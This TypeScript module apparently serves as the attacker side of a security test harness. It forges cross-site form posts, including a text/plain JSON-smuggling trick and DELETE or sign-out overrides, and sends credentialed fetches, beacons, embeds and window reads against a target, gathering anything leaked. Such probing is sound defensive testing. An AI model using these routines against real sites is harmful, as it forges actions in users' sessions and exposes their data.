/** A call that changes something, or that only the administrator may make. */
export type TargetCall = { method: string; path: string; body?: Record<string, unknown> }

/** Whatever another site's page got to see. */
export type Loot = string[]

// Each function runs in the attacker's page: it can use nothing but what it is given and what a browser offers.

/** Posts forms in every way that forms can be written, into frames; answers when the browser is done with all of them. */
export async function postForms({ target, calls }: { target: string; calls: TargetCall[] }): Promise<void> {
  const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']
  const addresses = calls.flatMap(({ method, path, body = {} }) =>
    enctypes.flatMap((enctype) => [
      { enctype, body, url: target + path },
      { enctype, body, url: `${target}${path}?_method=${method}` },
    ]),
  )
  const posted = addresses.map(({ enctype, body, url }, position) => {
    const frame = document.createElement('iframe')
    frame.name = `answer-${position}`
    document.body.append(frame)
    const answered = new Promise((resolve) => frame.addEventListener('load', resolve))
    const form = document.createElement('form')
    form.method = 'post'
    form.action = url
    form.enctype = enctype
    form.target = frame.name
    const json = JSON.stringify(body)
    const fields =
      enctype === 'text/plain'
        ? // Together they read as JSON: {…,"padding":"="}
          { [`${json === '{}' ? '{' : `${json.slice(0, -1)},`}"padding":"`]: '"}' }
        : { ...body, _method: 'DELETE', action: 'sign-out', page: '/' }
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement('input')
      input.type = 'hidden'
      input.name = name
      input.value = String(value)
      form.append(input)
    }
    document.body.append(form)
    form.submit()
    return answered
  })
  await Promise.all(posted)
}

/** Fetches with cookies, with and without asking for permission, in every content type; and sends beacons. */
export async function fetchAll({ target, calls }: { target: string; calls: TargetCall[] }): Promise<Loot> {
  const loot: Loot = []
  const types = ['application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']
  const attempts = calls.flatMap(({ method, path, body }) => {
    const text = method === 'GET' ? null : JSON.stringify(body ?? {})
    const own = { method, path, body: text }
    const methods = method === 'GET' ? [own] : [own, { ...own, method: 'POST' }, { ...own, method: 'PUT' }]
    return methods.flatMap((attempt) => types.map((type) => ({ ...attempt, type })))
  })
  async function attempt(mode: RequestMode, { method, path, body, type }: (typeof attempts)[number]) {
    const overriding: Record<string, string> =
      mode === 'cors' && type === 'application/json' ? { 'X-HTTP-Method-Override': 'DELETE' } : {}
    try {
      const headers = { 'Content-Type': type, ...overriding }
      const answer = await fetch(target + path, { method, mode, body, headers, credentials: 'include' })
      const seen = await answer.text()
      if (answer.type !== 'opaque' || seen !== '') loot.push(`${mode} ${method} ${path}: ${answer.status} ${seen}`)
    } catch {
      // As it should be: the browser keeps the answer to itself.
    }
  }
  await Promise.all(attempts.flatMap((each) => [attempt('cors', each), attempt('no-cors', each)]))
  for (const { path, body } of calls) {
    for (const type of types) navigator.sendBeacon(target + path, new Blob([JSON.stringify(body ?? {})], { type }))
  }
  return loot
}

/** Embeds the addresses as whatever a page can embed; answers what was loaded. */
export async function embedAll({ target, paths }: { target: string; paths: string[] }): Promise<Loot> {
  const loot: Loot = []
  const kinds: Record<string, Record<string, string>> = {
    img: {},
    script: {},
    'link stylesheet': { rel: 'stylesheet' },
    'link prefetch': { rel: 'prefetch' },
    'link preload': { rel: 'preload', as: 'fetch', crossorigin: 'use-credentials' },
    'link modulepreload': { rel: 'modulepreload', crossorigin: 'use-credentials' },
    audio: {},
    video: {},
    track: {},
    embed: {},
    object: {},
  }
  const harmless = new Set(['embed', 'object'])
  const done = Object.entries(kinds).flatMap(([kind, attributes]) =>
    paths.map((path) => {
      const element = document.createElement(kind.split(' ')[0] ?? '')
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      const source = kind.startsWith('link') ? 'href' : kind === 'object' ? 'data' : 'src'
      element.setAttribute(source, target + path)
      const settled = new Promise<void>((resolve) => {
        for (const type of ['load', 'loadeddata']) {
          element.addEventListener(type, () => {
            // An object also loads when what it shows is an error.
            if (!harmless.has(kind)) loot.push(`${kind} ${path}`)
            resolve()
          })
        }
        element.addEventListener('error', () => resolve())
        // Nobody tells when some of these have failed.
        setTimeout(resolve, 3000)
      })
      document.body.append(element)
      return settled
    }),
  )
  await Promise.all(done)
  return loot
}

/** Opens the addresses in windows and tries to look in; answers what could be read. */
export async function openAll({ target, paths }: { target: string; paths: string[] }): Promise<Loot> {
  const loot: Loot = []
  for (const path of paths) {
    const opened = window.open(target + path)
    await new Promise((resolve) => setTimeout(resolve, 1000))
    try {
      if (opened?.document.body) loot.push(`${path}: ${opened.document.documentElement.outerHTML}`)
    } catch {
      // As it should be: a window of another origin.
    }
  }
  return loot
}
